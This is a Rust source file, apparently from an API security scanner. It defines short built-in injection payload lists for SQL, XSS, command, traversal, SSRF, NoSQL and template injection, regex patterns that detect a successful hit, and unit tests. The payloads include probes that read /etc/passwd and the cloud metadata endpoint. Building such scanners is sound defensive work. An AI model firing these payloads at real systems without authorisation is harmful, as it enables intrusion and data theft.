//! Built-in payload lists (`for_each: {p: sqli}`) and the signs in a response that a payload
//! of a family worked (`no_signs_of: sqli`).
//!
//! The lists are short on purpose: each value is a request against someone's API. They cover
//! each family's distinct mechanisms (quote breaking, boolean and time tests, comment styles)
//! rather than many spellings of one.

/// A family of injection.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, serde::Serialize, serde::Deserialize)]
#[serde(rename_all = "snake_case")]
#[allow(missing_docs)] // the variants and fields say what they are; messages explain
pub enum Family {
    Sqli,
    SqliTime,
    Xss,
    Cmd,
    Traversal,
    Ssrf,
    Nosql,
    Ssti,
}

impl Family {
    /// Every family, in a stable order.
    pub const ALL: [Family; 8] = [
        Family::Sqli,
        Family::SqliTime,
        Family::Xss,
        Family::Cmd,
        Family::Traversal,
        Family::Ssrf,
        Family::Nosql,
        Family::Ssti,
    ];

    /// The list name used in test files.
    pub fn name(self) -> &'static str {
        match self {
            Family::Sqli => "sqli",
            Family::SqliTime => "sqli_time",
            Family::Xss => "xss",
            Family::Cmd => "cmd",
            Family::Traversal => "traversal",
            Family::Ssrf => "ssrf",
            Family::Nosql => "nosql",
            Family::Ssti => "ssti",
        }
    }

    /// Reads a list name (also Metlo's `SQLI`, `SQLI_TIME`, `XSS`).
    pub fn parse(s: &str) -> Option<Family> {
        let s = s.trim().to_ascii_lowercase();
        Family::ALL.into_iter().find(|f| f.name() == s)
    }

    /// The built-in list.
    pub fn payloads(self) -> &'static [&'static str] {
        match self {
            Family::Sqli => &[
                "'",
                "\"",
                "' OR '1'='1",
                "' OR 1=1-- -",
                "1' AND 1=CONVERT(int,@@version)--",
                "1 UNION SELECT NULL-- -",
                "') OR ('1'='1",
                "1;SELECT 1",
            ],
            Family::SqliTime => &[
                "' OR SLEEP(3)-- -",
                "1 AND SLEEP(3)",
                "'; SELECT pg_sleep(3)-- -",
                "1; WAITFOR DELAY '0:0:3'--",
                "' AND 1=(SELECT 1 FROM (SELECT randomblob(300000000)))-- -",
            ],
            Family::Xss => &[
                "<script>alert(7331)</script>",
                "\"><img src=x onerror=alert(7331)>",
                "'><svg/onload=alert(7331)>",
                "<a href=\"javascript:alert(7331)\">x</a>",
                "<iframe srcdoc=\"<script>alert(7331)</script>\">",
            ],
            Family::Cmd => &[";id", "|id", "$(id)", "`id`", "&& id", "; cat /etc/passwd"],
            Family::Traversal => &[
                "../../../../../../etc/passwd",
                "..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
                "....//....//....//....//etc/passwd",
                "/etc/passwd",
                "..\\..\\..\\..\\windows\\win.ini",
            ],
            Family::Ssrf => &[
                "http://127.0.0.1/",
                "http://169.254.169.254/latest/meta-data/",
                "http://[::1]/",
                "http://localhost:22/",
                "file:///etc/passwd",
                "http://0x7f000001/",
            ],
            Family::Nosql => &[
                "{\"$ne\": null}",
                "{\"$gt\": \"\"}",
                "'; return true; var x='",
                "{\"$where\": \"sleep(100)\"}",
            ],
            Family::Ssti => &[
                "{{1337*1337}}",
                "${1337*1337}",
                "<%= 1337*1337 %>",
                "#{1337*1337}",
                "{{7*'7'}}",
            ],
        }
    }

    /// Regular expressions that, found in a response, show the payload reached something it
    /// should not have: database errors, command output, a file's content, an evaluated
    /// template, markup that came back unescaped (judged only where a browser would render
    /// it: see `judge`).
    pub fn signs(self) -> &'static [&'static str] {
        match self {
            Family::Sqli | Family::SqliTime => &[
                r"(?i)you have an error in your sql syntax",
                r"(?i)sqlite3?\.OperationalError|SQLITE_ERROR|sqlite_master",
                r"(?i)unterminated quoted string|syntax error at or near",
                r"(?i)\bORA-\d{5}\b",
                r"(?i)SQLSTATE\[|PG::SyntaxError|psycopg2\.errors",
                r"(?i)unclosed quotation mark after the character string",
                r"(?i)Microsoft OLE DB Provider for SQL Server|ODBC SQL Server Driver",
                r"(?i)\bnear \S+: syntax error\b",
            ],
            // Markup that survived unescaped (escaped `&lt;img … onerror=…` is harmless).
            Family::Xss => &[
                r"(?i)<script>alert\(7331\)</script>",
                r"(?i)<img src=x onerror=alert\(7331\)>",
                r"(?i)<svg/onload=alert\(7331\)>",
                r#"(?i)<a href="javascript:alert\(7331\)">"#,
                r#"(?i)<iframe srcdoc=""#,
            ],
            Family::Cmd => &[r"uid=\d+\([a-z_][\w-]*\)", r"root:x:0:0:"],
            Family::Traversal => &[r"root:x:0:0:", r"(?i)\[(boot loader|fonts|extensions)\]"],
            Family::Ssrf => &[
                r"(?i)\bami-id\b|\binstance-id\b",
                r"root:x:0:0:",
                r"SSH-\d\.\d-",
            ],
            Family::Nosql => &[r"(?i)MongoError|MongoServerError|\$where|BSON"],
            Family::Ssti => &[r"1787569", r"7777777"],
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_family_has_payloads_and_signs_that_compile() {
        for f in Family::ALL {
            assert!(!f.payloads().is_empty(), "{f:?}");
            assert_eq!(Family::parse(&f.name().to_uppercase()), Some(f));
            for s in f.signs() {
                regex::Regex::new(s).unwrap_or_else(|e| panic!("{f:?} {s}: {e}"));
            }
        }
    }

    #[test]
    fn signs_match_what_a_vulnerable_server_says_and_not_ordinary_answers() {
        let hit = |f: Family, text: &str| {
            f.signs()
                .iter()
                .any(|s| regex::Regex::new(s).unwrap().is_match(text))
        };
        assert!(hit(
            Family::Sqli,
            "sqlite3.OperationalError: unrecognized token: \"'\""
        ));
        assert!(hit(Family::Cmd, "uid=33(www-data) gid=33(www-data)"));
        assert!(hit(Family::Ssti, "Hello 1787569"));
        for f in Family::ALL {
            assert!(
                !hit(f, r#"{"id": 42, "title": "Dune", "error": "not found"}"#),
                "{f:?}"
            );
        }
    }
}
